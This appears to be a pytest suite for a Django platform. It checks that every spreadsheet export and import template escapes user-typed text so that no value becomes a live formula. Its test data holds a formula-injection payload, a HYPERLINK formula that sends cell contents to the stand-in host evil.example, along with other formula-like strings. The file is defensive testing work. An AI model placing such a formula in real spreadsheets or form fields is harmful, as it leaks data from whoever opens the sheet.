"""Every .xlsx the platform offers stores what people typed as text, never as a formula: a proposal titled
``=HYPERLINK(…)`` must not become a live link in the office's list (zhengxie/core/spreadsheets.py)."""

import datetime
import io

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from tests.builders.activities import published_activity
from tests.builders.followup import make_document
from tests.builders.opinion_outputs import category as opinion_category
from tests.builders.opinion_outputs import make_report
from tests.builders.people import member_data
from tests.builders.proposals import assigned, submitted
from zhengxie.core.spreadsheets import append
from zhengxie.people.services import member_create, unit_create
from zhengxie.proposals.models import Category

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"查看")'
SUM = "=SUM(1,2)"
PLUS = "+86 139-0000-0009"
AT = "@SUM(1,2)"
ERROR = "#N/A"


def _routes(patterns, prefix="", namespace=None):
    for p in patterns:
        if isinstance(p, URLResolver):
            inner = ":".join(n for n in (namespace, p.namespace) if n) or None
            yield from _routes(p.url_patterns, prefix + str(p.pattern), inner)
        elif isinstance(p, URLPattern) and p.name:
            yield prefix + str(p.pattern), f"{namespace}:{p.name}" if namespace else p.name


def _spreadsheet_routes() -> set[str]:
    """Every page that hands out a workbook: the .xlsx downloads, the list exports and the import templates."""
    return {
        name
        for route, name in _routes(get_resolver().url_patterns)
        if route.endswith(".xlsx") or "export" in route or route.endswith("template/")
    }


def _cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_every_workbook_stores_typed_text_as_text(org, category, client_for):
    # given formula-like text wherever people type it: a member's name and work unit, a unit's name and address,
    # a proposal's title and its category, an activity's title and place
    admin, office, staff = org.users["admin"], org.users["office"], org.users["staff"]
    member_create(actor=admin, data=member_data(org, 40, name=SUM, work_unit=LINK, title=AT))
    unit = unit_create(actor=admin, data={"name": LINK, "address": PLUS, "short_name": ERROR})
    formula_category = Category.objects.create(name=AT, sort_order=2)
    submitted(org, formula_category, title=LINK)
    assigned(org, category, units=[(unit, "single")], title=SUM)
    activity = published_activity(org, title=LINK, place=PLUS)
    make_report(org.users["member"], title=LINK, cat=opinion_category(AT))
    make_document(org, title=SUM, recommendations=[{"text": LINK, "unit_id": unit.pk}])
    year = timezone.localdate().year
    downloads = {
        "people:member_export": (admin, {}, {SUM, LINK, AT}),
        "people:unit_export": (admin, {}, {LINK, PLUS, ERROR}),
        "people:member_import_template": (admin, {}, set()),
        "people:unit_import_template": (admin, {}, set()),
        "proposals:history_import_template": (office, {}, set()),
        "proposals:list_xlsx": (office, {}, {LINK, SUM, AT}),
        "proposals:statistics_xlsx": (office, {"year": year}, {LINK, AT}),
        "duty:attendance_xlsx": (staff, {}, {f"{LINK} 考勤表", PLUS, SUM}),
        "duty:committee_table_xlsx": (staff, {"year": year}, {SUM}),
        "opinions:list_xlsx": (staff, {}, {LINK, AT}),
        # a recommendation's text, its document's title and its department (by the short name)
        "followup:leaders_xlsx": (staff, {"year": year}, {LINK, SUM, ERROR}),
        # members short of study hours: the member named SUM has none
        "training:shortfall_xlsx": (staff, {"year": year}, {SUM}),
    }
    # every workbook the platform offers is in this test
    assert _spreadsheet_routes() == set(downloads)
    for name, (user, query, typed) in downloads.items():
        # when each is downloaded
        args = [activity.pk] if name == "duty:attendance_xlsx" else []
        response = client_for(user).get(reverse(name, args=args), query)
        assert response.status_code == 200, name
        cells = _cells(response.content)
        # then no cell is a formula or an error value, and the typed text is there as typed, in text cells
        assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == [], name
        texts = {c.value for c in cells if c.data_type == "s"}
        assert typed <= texts, (name, typed - texts)
        assert all(c.quotePrefix for c in cells if c.value in typed and c.value[0] in "=+-@"), name


@pytest.mark.parametrize("text", [LINK, "+1", "-1+2", "@A1", "\t=1", "\r=1", ERROR, "普通文字"])
@pytest.mark.parametrize("write_only", [True, False])
def test_a_row_keeps_strings_as_text_and_other_values_as_they_are(text, write_only):
    book = openpyxl.Workbook(write_only=write_only)
    sheet = book.create_sheet("s")
    append(sheet, [text, None, 3, datetime.date(2026, 1, 2)])
    out = io.BytesIO()
    book.save(out)
    row = next(openpyxl.load_workbook(out).worksheets[-1].iter_rows(max_row=1))
    assert [(c.value, c.data_type) for c in row] == [
        (text, "s"),
        (None, "n"),
        (3, "n"),
        (datetime.datetime(2026, 1, 2), "d"),
    ]
    assert row[0].quotePrefix == (text[0] in "=+-@\t\r")
